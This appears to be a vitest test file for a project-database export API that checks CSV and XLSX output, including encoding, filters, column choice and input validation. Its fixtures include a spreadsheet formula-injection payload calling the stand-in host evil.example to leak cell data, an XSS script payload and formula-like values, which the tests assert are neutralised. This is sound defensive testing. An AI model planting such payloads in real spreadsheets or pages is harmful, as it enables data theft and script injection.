import { randomUUID } from 'node:crypto';
import { funding, projectCountries, projects } from '@srt/db/schema';
import type { ProjectFilter } from '@srt/shared/filter';
import { searchTextOf } from '@srt/shared/search';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildServer } from '../server.ts';
import { createTestApi, type TestApi } from '../test/harness.ts';

let api: TestApi;
let app: FastifyInstance;

/** Records that try to break a spreadsheet, added to the shared fixtures. */
const HOSTILE = {
  formulaTitle: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  markup: '<img src=x onerror=alert(1)><script>alert("x")</script>',
  hashTitle: '#1 priority: Navoi free zone',
  bellTitleOriginal: 'Навои\u0007 свободная зона',
  noCountryTitle: 'Project with no country yet',
};
const ids = { formula: randomUUID(), hash: randomUUID(), noCountry: randomUUID() };

beforeAll(async () => {
  api = await createTestApi();
  const { db } = api.database;
  const project = (id: string, title: string, extra: Partial<typeof projects.$inferInsert> = {}) => ({
    id,
    title,
    status: 2,
    actualStart: '2019-01-01',
    qualityScore: 10,
    searchText: searchTextOf(title, extra.titleOriginal, extra.iatiIdentifier),
    ...extra,
  });
  await db.insert(projects).values([
    project(ids.formula, HOSTILE.formulaTitle, {
      titleOriginal: HOSTILE.markup,
      titleLanguage: 'en',
      iatiIdentifier: '-2+3',
    }),
    project(ids.hash, HOSTILE.hashTitle, { titleOriginal: HOSTILE.bellTitleOriginal, titleLanguage: 'ru' }),
    project(ids.noCountry, HOSTILE.noCountryTitle),
  ]);
  await db.insert(projectCountries).values([
    { projectId: ids.formula, country: 'UZ' },
    { projectId: ids.hash, country: 'UZ' },
  ]);
  // A reimbursement: a negative amount, which must stay a number.
  await db.insert(funding).values({
    projectId: ids.formula,
    flow: 'disbursement',
    amount: '-250.75',
    currency: 'USD',
    amountUsd: '-250.75',
    usdRate: '1',
    rateSource: '@SUM(A1:A9)',
    valueDate: '2019-06-01',
  });
  app = await buildServer({
    database: api.database,
    env: { WEB_DIST: '/nonexistent' },
    logger: pino({ level: 'silent' }),
  });
});
afterAll(async () => {
  await app.close();
  await api.database.close();
});

type Query = {
  format?: string;
  variant?: string;
  columns?: string;
  lang?: string;
  filter?: ProjectFilter | string;
};

const urlOf = (query: Query) => {
  const params = new URLSearchParams();
  for (const [key, value] of Object.entries(query)) {
    if (value !== undefined) params.set(key, typeof value === 'string' ? value : JSON.stringify(value));
  }
  return `/api/export?${params.toString()}`;
};

type Csv = { text: string; comments: string[]; header: string[]; rows: Record<string, string>[] };

async function getCsv(query: Query): Promise<Csv> {
  const response = await app.inject({ method: 'GET', url: urlOf({ ...query, format: 'csv' }) });
  expect(response.statusCode, response.body.slice(0, 500)).toBe(200);
  const text = response.rawPayload.toString('utf8');
  const lines = text.replace(/^\uFEFF/, '').split('\r\n');
  const header = parse(lines.find((l) => !l.startsWith('#')) ?? '')[0] as string[];
  const rows = parse(text, { bom: true, comment: '#', comment_no_infix: true, columns: true }) as Record<
    string,
    string
  >[];
  return { text, comments: lines.filter((l) => l.startsWith('#')), header, rows };
}

type Sheet = { header: string[]; rows: Record<string, ExcelJS.CellValue>[]; sheet: ExcelJS.Worksheet };

async function getXlsx(
  query: Query,
): Promise<{ workbook: ExcelJS.Workbook; data: Sheet; about: string[][] }> {
  const response = await app.inject({ method: 'GET', url: urlOf({ ...query, format: 'xlsx' }) });
  expect(response.statusCode, response.body.slice(0, 500)).toBe(200);
  expect(response.headers['content-type']).toBe(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  );
  const workbook = new ExcelJS.Workbook();
  // exceljs declares its own `Buffer` as an ArrayBuffer.
  await workbook.xlsx.load(new Uint8Array(response.rawPayload).buffer);
  const data = workbook.getWorksheet('Data');
  const aboutSheet = workbook.getWorksheet('About');
  if (!data || !aboutSheet) throw new Error('missing sheet');
  const header = (data.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const rows: Record<string, ExcelJS.CellValue>[] = [];
  data.eachRow((row, number) => {
    if (number === 1) return;
    rows.push(Object.fromEntries(header.map((key, i) => [key, row.getCell(i + 1).value])));
  });
  const about: string[][] = [];
  aboutSheet.eachRow((row) => {
    about.push((row.values as ExcelJS.CellValue[]).slice(1).map((v) => String(v ?? '')));
  });
  return { workbook, data: { header, rows, sheet: data }, about };
}

/** Every project id of project.list for a filter, page by page. */
async function listedIds(filter: ProjectFilter): Promise<{ ids: string[]; total: number }> {
  const found: string[] = [];
  let cursor: string | null = null;
  let total = 0;
  do {
    const page = await api.caller.project.list({ filter, limit: 200, cursor });
    found.push(...page.rows.map((r) => r.id));
    total = page.total;
    cursor = page.nextCursor;
  } while (cursor);
  return { ids: found, total };
}

const byProject = (rows: Record<string, string>[], id: string) => {
  const row = rows.find((r) => r.project_id === id);
  if (!row) throw new Error(`no row for project ${id}`);
  return row;
};

const FILTERS: ProjectFilter[] = [
  {},
  { countries: ['TJ'] },
  { countries: ['UZ'], initiatives: ['bri'], initiativeBasis: 'official' },
  { sectors: ['320'], yearFrom: 2010, yearTo: 2020 },
  { q: 'อุตสาหกรรม' },
  { statuses: [2, 4], minQuality: 50 },
];

describe('CSV', () => {
  it('starts with the BOM, states the filter and the time, and ends with the number of rows', async () => {
    const filter = {
      countries: ['TJ'],
      initiatives: ['bri' as const],
      initiativeBasis: 'official' as const,
      yearFrom: 2010,
      yearTo: 2020,
    };
    const response = await app.inject({ method: 'GET', url: urlOf({ filter }) });
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="silk-road-tracker_projects_TJ_\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const csv = await getCsv({ filter });
    expect(csv.text.startsWith('\uFEFF# Silk Road Tracker — export\r\n')).toBe(true);
    expect(csv.comments).toContain(
      '# Filter,Countries: Tajikistan; Initiative: BRI (official only); Years: 2010–2020',
    );
    expect(csv.comments.find((l) => l.startsWith('# As of,'))).toMatch(
      /^# As of,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} UTC$/,
    );
    expect(csv.comments).toContain(`# Row count,${csv.rows.length}`);
    expect(csv.text.endsWith(`# Rows written,${csv.rows.length}\r\n`)).toBe(true);
    expect(csv.comments.some((l) => l.startsWith('# Sources,') && l.includes('UNIDO'))).toBe(true);
    expect(csv.rows.length).toBeGreaterThan(0);
  });

  it('has exactly the projects of project.list for the same filter', async () => {
    for (const filter of FILTERS) {
      const [csv, listed] = await Promise.all([getCsv({ filter }), listedIds(filter)]);
      expect(csv.rows.length, JSON.stringify(filter)).toBe(listed.total);
      expect(csv.rows.map((r) => r.project_id).sort(), JSON.stringify(filter)).toEqual(
        [...listed.ids].sort(),
      );
    }
  });

  it('keeps Cyrillic, Thai and Azerbaijani Latin as they are', async () => {
    const { rows } = await getCsv({});
    expect(byProject(rows, api.fixtures.project.railway).title_original).toBe(
      'Модернизация железной дороги Ташкент — Андижан',
    );
    expect(byProject(rows, api.fixtures.project.silkRoad).title_original).toBe(
      'การส่งเสริมการพัฒนาอุตสาหกรรมที่ครอบคลุมและยั่งยืนในแถบเศรษฐกิจเส้นทางสายไหมใหม่',
    );
    expect(byProject(rows, api.fixtures.project.ganca).title).toBe('Gəncə Industrial Park');
    const ru = await getCsv({ lang: 'ru', columns: 'project_id,country_names,status_name' });
    expect(byProject(ru.rows, api.fixtures.project.railway)).toEqual({
      project_id: api.fixtures.project.railway,
      country_names: 'Таджикистан; Узбекистан',
      status_name: 'Закрыт',
    });
  });

  it('neutralises formulas, keeps negative amounts numeric and markup as plain text', async () => {
    const { rows } = await getCsv({});
    const hostile = byProject(rows, ids.formula);
    expect(hostile.title).toBe(`'${HOSTILE.formulaTitle}`);
    expect(hostile.iati_identifier).toBe("'-2+3");
    expect(hostile.title_original).toBe(HOSTILE.markup);
    expect(hostile.disbursed_usd_nominal).toBe('-250.75');

    const money = await getCsv({ variant: 'funding', filter: { q: 'evil.example' } });
    expect(money.rows).toHaveLength(1);
    expect(money.rows[0]).toMatchObject({
      amount: '-250.75',
      amount_usd: '-250.75',
      rate_source: "'@SUM(A1:A9)",
    });
    // No unquoted field anywhere starts with a formula character.
    for (const line of money.text.split('\r\n').filter((l) => !l.startsWith('#'))) {
      for (const field of parse(line, { relax_quotes: true })[0] ?? []) {
        if (/^-?\d+(\.\d+)?$/.test(field)) continue;
        expect(field).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('quotes a field that starts with #, so readers that skip comments keep the row', async () => {
    const csv = await getCsv({ columns: 'title,title_original' });
    expect(csv.text).toContain(`"${HOSTILE.hashTitle}"`);
    expect(csv.rows.map((r) => r.title)).toContain(HOSTILE.hashTitle);
    expect(csv.rows.find((r) => r.title === HOSTILE.hashTitle)?.title_original).toBe(
      HOSTILE.bellTitleOriginal,
    );
  });
});

describe('XLSX', () => {
  it('opens with exceljs: an About sheet first, then the same rows as project.list', async () => {
    const filter = { countries: ['UZ'] };
    const [{ workbook, data, about }, listed] = await Promise.all([getXlsx({ filter }), listedIds(filter)]);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['About', 'Data']);
    expect(data.rows).toHaveLength(listed.total);
    expect(data.rows.map((r) => r.project_id).sort()).toEqual([...listed.ids].sort());
    expect(about[0]).toEqual(['Silk Road Tracker — export']);
    expect(about).toContainEqual(['Filter', 'Countries: Uzbekistan']);
    expect(about).toContainEqual(['Row count', String(listed.total)]);
    expect(about.find((r) => r[0] === 'As of')?.[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} UTC$/);
    expect(about.some((r) => r[0] === 'UNIDO' && r[2] === 'https://www.unido.org/news/example')).toBe(true);
    expect(about).toContainEqual(['title_original', 'Title in the original language']);
  });

  it('types its cells: numbers, dates and text; formulas and control characters never get in', async () => {
    const { data } = await getXlsx({});
    const silk = data.rows.find((r) => r.project_id === api.fixtures.project.silkRoad);
    expect(silk).toMatchObject({
      committed_usd_nominal: 1500000.5,
      pledged_usd_nominal: 2000000,
      status: 2,
      planned_start: new Date(Date.UTC(2018, 3, 20)),
      title_original: 'การส่งเสริมการพัฒนาอุตสาหกรรมที่ครอบคลุมและยั่งยืนในแถบเศรษฐกิจเส้นทางสายไหมใหม่',
    });
    const hostile = data.rows.find((r) => r.project_id === ids.formula);
    expect(hostile).toMatchObject({
      title: `'${HOSTILE.formulaTitle}`,
      title_original: HOSTILE.markup,
      iati_identifier: "'-2+3",
      disbursed_usd_nominal: -250.75,
    });
    expect(data.rows.find((r) => r.project_id === ids.hash)?.title_original).toBe('Навои свободная зона');
    data.sheet.eachRow((row) => {
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    });
    const column = data.header.indexOf('committed_usd_nominal') + 1;
    expect(data.sheet.getRow(2).getCell(column).numFmt).toBe('#,##0.00');
  });

  it('writes the funding variant with a negative amount as a number', async () => {
    const { data } = await getXlsx({ variant: 'funding', filter: { q: 'evil.example' }, lang: 'ru' });
    expect(data.rows).toEqual([
      expect.objectContaining({
        amount: -250.75,
        flow_name: 'Выплачено',
        price_basis_name: 'номинальные цены',
        rate_source: "'@SUM(A1:A9)",
        value_date: new Date(Date.UTC(2019, 5, 1)),
        estimated: false,
      }),
    ]);
  });
});

describe('variants', () => {
  it('projects: sums per flow, nominal and constant prices apart, deleted funding left out', async () => {
    const { rows } = await getCsv({});
    expect(byProject(rows, api.fixtures.project.silkRoad)).toMatchObject({
      pledged_usd_nominal: '2000000.00',
      committed_usd_nominal: '1500000.50',
      disbursed_usd_nominal: '500000.00',
      disbursed_usd_constant: '',
      constant_price_basis: '',
      funders: 'Government of the Peopleʼs Republic of China',
      initiatives: 'bri:official; unido:official',
      initiative_names: 'Belt and Road Initiative (Official label); UNIDO (Official label)',
      sectors: '25010; 32120',
      sector_names: 'Business policy and administration; Industrial development',
      status: '2',
      status_name: 'Implementation',
    });
    expect(byProject(rows, api.fixtures.project.ganca)).toMatchObject({
      committed_usd_nominal: '1449969.00',
      committed_usd_constant: '2000000.00',
      constant_price_basis: 'constant-2021',
      constant_price_basis_name: 'constant 2021 prices',
    });
    expect(byProject(rows, api.fixtures.project.railway)).toMatchObject({
      disbursed_usd_nominal: '100000000.00',
      spent_usd_nominal: '',
      funding_rows_without_usd: '1',
    });
    expect(rows.map((r) => r.project_id)).not.toContain(api.fixtures.project.deleted);
  });

  it('project-country: one row per project and country, with each country’s share', async () => {
    const [{ rows, comments }, listed] = await Promise.all([
      getCsv({ variant: 'project-country' }),
      api.caller.project.list({ limit: 200 }),
    ]);
    const expected = listed.rows.reduce((n, p) => n + Math.max(1, p.countries.length), 0);
    expect(rows).toHaveLength(expected);
    expect(comments).toContain(`# Row count,${expected}`);
    const railway = rows.filter((r) => r.project_id === api.fixtures.project.railway);
    expect(
      railway.map((r) => [r.country, r.country_name, r.country_percentage, r.disbursed_usd_nominal_share]),
    ).toEqual([
      ['TJ', 'Tajikistan', '30.00', '30000000.00'],
      ['UZ', 'Uzbekistan', '70.00', '70000000.00'],
    ]);
    // Four countries and no percentages: no share is made up.
    const silk = rows.filter((r) => r.project_id === api.fixtures.project.silkRoad);
    expect(silk.map((r) => r.country)).toEqual(['AZ', 'TJ', 'TM', 'UZ']);
    expect(new Set(silk.map((r) => r.pledged_usd_nominal_share))).toEqual(new Set(['']));
    // One country and no percentage: all of it.
    expect(byProject(rows, api.fixtures.project.pipeline).committed_usd_nominal_share).toBe('300000.00');
    expect(byProject(rows, api.fixtures.project.ganca).committed_usd_constant_share).toBe('2000000.00');
    expect(byProject(rows, ids.noCountry)).toMatchObject({ country: '', country_name: '' });
  });

  it('funding: one row per funding transaction, as funding.list counts them', async () => {
    for (const filter of [{}, { countries: ['AZ'] }, { initiatives: ['bri' as const] }]) {
      const [{ rows }, listed] = await Promise.all([
        getCsv({ variant: 'funding', filter }),
        api.caller.funding.list({ filter, limit: 200 }),
      ]);
      expect(rows, JSON.stringify(filter)).toHaveLength(listed.total);
      expect(rows.map((r) => r.funding_id).sort()).toEqual(listed.rows.map((r) => r.id).sort());
    }
    const { rows } = await getCsv({ variant: 'funding', filter: { countries: ['AZ'] } });
    const ganca = rows.filter((r) => r.project_id === api.fixtures.project.ganca);
    expect(
      ganca.map((r) => [
        r.amount,
        r.currency,
        r.price_basis,
        r.price_basis_name,
        r.amount_usd,
        r.usd_rate,
        r.rate_source,
      ]),
    ).toEqual(
      expect.arrayContaining([
        [
          '10000000.00',
          'CNY',
          'nominal',
          'nominal prices',
          '1449969.00',
          '6.8967000000',
          'World Bank WDI 2019',
        ],
        [
          '2000000.00',
          'USD',
          'constant-2021',
          'constant 2021 prices',
          '2000000.00',
          '1.0000000000',
          'identity',
        ],
      ]),
    );
    const pledge = rows.find((r) => r.funding_id === api.fixtures.funding.forumPledge);
    expect(pledge).toMatchObject({
      flow: 'pledge',
      flow_name: 'Pledged',
      funder: 'Government of the Peopleʼs Republic of China',
      recipient: 'United Nations Industrial Development Organization',
      instrument: 'grant',
      instrument_name: 'Grant',
      estimated: 'false',
      value_date: '2018-04-20',
      countries: 'AZ; TJ; TM; UZ',
    });
  });
});

describe('columns and language', () => {
  it('writes the chosen columns in the chosen order, names in the chosen language', async () => {
    const csv = await getCsv({
      variant: 'project-country',
      columns: 'country_name,title,country',
      lang: 'ru',
      filter: { countries: ['TJ'] },
    });
    expect(csv.header).toEqual(['country_name', 'title', 'country']);
    expect(csv.rows.find((r) => r.title === 'Dushanbe solar power plant')).toEqual({
      country_name: 'Таджикистан',
      title: 'Dushanbe solar power plant',
      country: 'TJ',
    });
    expect(csv.comments).toContain('# Фильтр,Страны: Таджикистан');
    const xlsx = await getXlsx({ columns: 'title' });
    expect(xlsx.data.header).toEqual(['title']);
  });

  it('keeps empty values of a single column as rows', async () => {
    const [csv, listed] = await Promise.all([getCsv({ columns: 'iati_identifier' }), listedIds({})]);
    expect(csv.rows).toHaveLength(listed.total);
  });
});

describe('bad input', () => {
  const cases: [string, Query, string][] = [
    ['an unknown format', { format: 'pdf' }, 'format'],
    ['an unknown variant', { variant: 'events' }, 'variant'],
    ['an unknown column', { columns: 'title,secret_column' }, 'columns'],
    ['a column of another variant', { variant: 'funding', columns: 'country_percentage' }, 'columns'],
    ['an unknown language', { lang: 'fr' }, 'lang'],
    ['an unknown country in the filter', { filter: { countries: ['XX'] } }, 'filter.countries.0'],
    ['a bad year in the filter', { filter: '{"yearFrom":"abc"}' }, 'filter.yearFrom'],
    ['malformed JSON in the filter', { filter: '{"countries":["TJ"' }, 'filter'],
    ['a NUL byte in the search text', { filter: { q: 'nul\u0000byte' } }, 'filter'],
  ];
  for (const [what, query, field] of cases) {
    it(`answers ${what} with a 400 naming ${field}`, async () => {
      const response = await app.inject({ method: 'GET', url: urlOf(query) });
      expect(response.statusCode, response.body).toBe(400);
      const body = response.json() as { message: string; fields: Record<string, string[]> };
      expect(Object.keys(body.fields)).toContain(field);
      expect(body.message).toContain(`${field}: `);
    });
  }

  it('checks a link with HEAD without running the export', async () => {
    const ok = await app.inject({
      method: 'HEAD',
      url: urlOf({ format: 'xlsx', filter: { countries: ['TJ'] } }),
    });
    expect(ok.statusCode).toBe(200);
    expect(ok.headers['content-disposition']).toMatch(/silk-road-tracker_projects_TJ_.*\.xlsx"$/);
    expect(ok.rawPayload.length).toBe(0);
    expect((await app.inject({ method: 'HEAD', url: urlOf({ format: 'pdf' }) })).statusCode).toBe(400);
  });

  it('refuses a misspelt parameter rather than ignoring it', async () => {
    const response = await app.inject({ method: 'GET', url: '/api/export?colums=title' });
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain('colums');
  });
});
